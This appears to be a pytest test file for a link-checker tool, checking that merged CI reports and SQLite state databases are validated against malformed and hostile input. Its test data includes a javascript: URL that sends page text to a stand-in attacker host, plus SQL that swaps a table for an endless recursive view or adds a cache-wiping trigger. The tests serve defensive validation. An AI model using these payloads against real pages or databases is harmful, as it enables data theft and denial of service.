"""Merging validates (issue 25, item 8): the shards' reports and databases are files a CI
run downloaded, so every field is checked for its type and bounds before anything is
merged, SQLite is read from plain tables only, and the HTML report links only http(s) and
relative URLs under a CSP without 'unsafe-inline'."""

from __future__ import annotations

import json
import sqlite3
import time
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from linkcheck.cli import app
from linkcheck.errors import ExitCode

from .conftest import render_in_chromium

runner = CliRunner()

RECORD: dict[str, Any] = {
    "file": "post.md",
    "line": 1,
    "column": 1,
    "kind": "inline",
    "scope": "external",
    "url": "https://gone.example/x",
    "target": "https://gone.example/x",
    "remapped": False,
    "text": "x",
    "status": "dead",
    "reason": "http-404",
    "final_url": None,
    "detail": None,
    "rule": None,
    "snapshot": None,
    "wayback": None,
    "from_cache": False,
    "acknowledged": False,
    "failing_since": None,
    "consecutive_failures": 1,
}


def _report(path: Path, *, records: list[Any] | None = None, **overrides: Any) -> str:
    document: dict[str, Any] = {
        "schema": "linkcheck.report/1",
        "shard": {"index": 1, "count": 1},
        "summary": {"offline": False, "fetched": 1, "cached": 0},
        "results": [RECORD] if records is None else records,
        "warnings": [],
    }
    document.update(overrides)
    path.write_text(json.dumps(document), encoding="utf-8")
    return str(path)


@pytest.mark.parametrize(
    ("overrides", "said"),
    [
        ({"shard": {"index": 1, "count": 10**12}}, "N at most 10,000"),
        ({"summary": {"offline": "false"}}, "offline must be true or false"),
        ({"summary": {"fetched": [1]}}, "fetched must be a whole number"),
        ({"warnings": 3}, "warnings must be a list of texts"),
        ({"records": [dict(RECORD, status="gone")]}, "status must be one of"),
        ({"records": [dict(RECORD, line="1")]}, "line must be a whole number"),
        ({"records": [dict(RECORD, file=["a"])]}, "file must be text"),
        ({"records": [dict(RECORD, url="x" * 10_000)]}, "url must be text of at most"),
        ({"records": [dict(RECORD, wayback="javascript:alert(1)")]}, "wayback must be an http"),
        ({"records": [dict(RECORD, final_url="javascript:x")]}, "final_url must be an http"),
        ({"records": [dict(RECORD, snapshot="javascript:alert(1)")]}, "snapshot must be a file"),
        ({"records": [dict(RECORD, reason="<b>x</b>")]}, "reason must be lower-case"),
        ({"records": [dict(RECORD, failing_since=7)]}, "failing_since must be text"),
        ({"records": [dict(RECORD, failing_since="tomorrow")]}, "must be an ISO date"),
        ({"records": ["not a result"]}, "not a result"),
    ],
)
def test_a_malformed_report_is_refused_by_name_never_exit_4(
    tmp_path: Path, overrides: dict[str, Any], said: str
) -> None:
    path = _report(tmp_path / "r.json", **overrides)
    result = runner.invoke(app, ["report", "--merge", path])
    assert result.exit_code == ExitCode.USAGE, (result.exit_code, result.stderr)
    assert said in result.stderr


def test_a_date_in_the_future_is_taken_as_now(tmp_path: Path) -> None:
    record = dict(RECORD, failing_since="2999-01-01T00:00:00+00:00", consecutive_failures=3)
    path = _report(tmp_path / "r.json", records=[record])
    result = runner.invoke(app, ["report", "--merge", path, "--format", "json"])
    assert result.exit_code == ExitCode.LINKS_FAILED, result.stderr
    [merged] = json.loads(result.stdout)["results"]
    assert merged["failing_since"] < "2999"


def test_the_html_report_links_no_script_url_and_allows_no_inline_code(tmp_path: Path) -> None:
    hostile = dict(RECORD, url="javascript:fetch('https://evil.example/'+document.body.innerText)")
    path = _report(tmp_path / "r.json", records=[hostile, RECORD])
    page = tmp_path / "report.html"
    result = runner.invoke(
        app, ["report", "--merge", path, "--format", "html", "--output", str(page)]
    )
    assert result.exit_code == ExitCode.LINKS_FAILED, result.stderr
    source = page.read_text(encoding="utf-8")
    assert "'unsafe-inline'" not in source
    dom = render_in_chromium(page)
    assert dom.css_first("body").attributes.get("data-rendered") == "true"  # our script ran
    hrefs = [a.attributes.get("href") or "" for a in dom.css("a")]
    assert "https://gone.example/x" in hrefs
    assert not [h for h in hrefs if h.lower().startswith("javascript")]
    assert "javascript:fetch" in dom.css_first("#posts").text()  # shown, as text


# --- state merge --------------------------------------------------------------------------


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "blog"
    (root / ".git").mkdir(parents=True)
    (root / "post.md").write_text("[x](https://gone.example/x)\n", encoding="utf-8")
    monkeypatch.chdir(root)
    return root


def _shard_database(path: Path) -> sqlite3.Connection:
    """A shard's state database as linkcheck writes it (made by a real run offline)."""
    done = runner.invoke(app, ["check", "post.md", "--offline"])
    assert done.exit_code in (0, 3), done.stderr
    source = Path(".linkcheck/state.db")
    db = sqlite3.connect(path)
    with sqlite3.connect(source) as original:
        original.backup(db)
    return db


def test_bad_rows_are_left_out_and_the_project_keeps_working(project: Path) -> None:
    db = _shard_database(project.parent / "shard.db")
    later = time.time() + 10 * 365 * 86400
    db.executemany(
        "INSERT INTO cache VALUES (?, ?, ?, ?, ?, ?, ?)",
        [
            ("https://a.example/", "zombie", "x", None, None, time.time(), None),  # status
            ("https://b.example/", "alive", "http-200", None, "x" * 20_000, time.time(), None),
            ("https://c.example/", "alive", "http-200", None, None, "soon", None),
            ("https://gone.example/x", "alive", "http-200", None, None, later, None),
        ],
    )
    db.commit()
    db.close()
    merged = runner.invoke(app, ["state", "merge", str(project.parent / "shard.db")])
    assert merged.exit_code == 0, merged.stderr
    assert "3 rows of the wrong type or size were left out" in merged.stderr
    with sqlite3.connect(project / ".linkcheck" / "state.db") as ours:
        urls = {row[0] for row in ours.execute("SELECT url FROM cache")}
        [(checked_at,)] = ours.execute(
            "SELECT checked_at FROM cache WHERE url = 'https://gone.example/x'"
        ).fetchall()
    assert not urls & {"https://a.example/", "https://b.example/", "https://c.example/"}
    assert checked_at <= time.time()  # a date in the future is taken as the merge's time
    again = runner.invoke(app, ["report", "post.md", "--format", "json"])
    assert again.exit_code in (0, 1), again.stderr


@pytest.mark.parametrize(
    "code",
    [
        # A recursive view in place of a table: reading it never ends.
        "DROP TABLE cache; CREATE VIEW cache AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL "
        "SELECT x + 1 FROM n) SELECT 'u' AS url, 'alive' AS status, 'r' AS reason, NULL AS "
        "final_url, NULL AS detail, x AS checked_at, NULL AS rule FROM n",
        "CREATE TRIGGER t AFTER INSERT ON runs BEGIN DELETE FROM cache; END",
    ],
)
def test_a_database_with_views_or_triggers_is_refused(project: Path, code: str) -> None:
    db = _shard_database(project.parent / "shard.db")
    db.executescript(code)
    db.close()
    merged = runner.invoke(app, ["state", "merge", str(project.parent / "shard.db")])
    assert merged.exit_code == ExitCode.USAGE, merged.stderr
    assert "views or triggers" in merged.stderr
